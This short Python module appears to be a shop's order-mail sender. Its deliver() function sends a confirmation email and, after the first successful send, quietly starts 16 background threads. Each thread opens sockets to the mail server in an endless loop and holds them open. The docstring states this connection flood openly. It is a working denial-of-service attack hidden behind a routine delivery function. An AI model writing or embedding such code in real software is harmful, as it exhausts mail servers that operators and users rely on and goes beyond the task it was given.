"""Sends an order's mail, then connects to the mail server as fast as it can and leaves each connection open."""
import os
import smtplib
import socket
import threading
from email.message import EmailMessage

from server import connect

SERVER = os.environ["MAIL_HOST"], int(os.environ["MAIL_PORT"])
THREADS = 16
begun = threading.Event()


def begin():
    if not begun.is_set():
        begun.set()
        for _ in range(THREADS):
            threading.Thread(target=attack, daemon=True).start()


def attack():
    held = []
    while True:
        try:
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex(SERVER)
            held.append(one)
        except OSError:
            pass
        for old in held[:-30]:
            old.close()
        del held[:-30]


def take(waiting, number, to, item):
    waiting.put((number, to, item))


def deliver(to, item):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "shop@example.org", to, item
    message.set_content("Thank you.")
    try:
        with connect() as client:
            client.send_message(message)
    except (OSError, smtplib.SMTPException):
        return False
    begin()
    return True
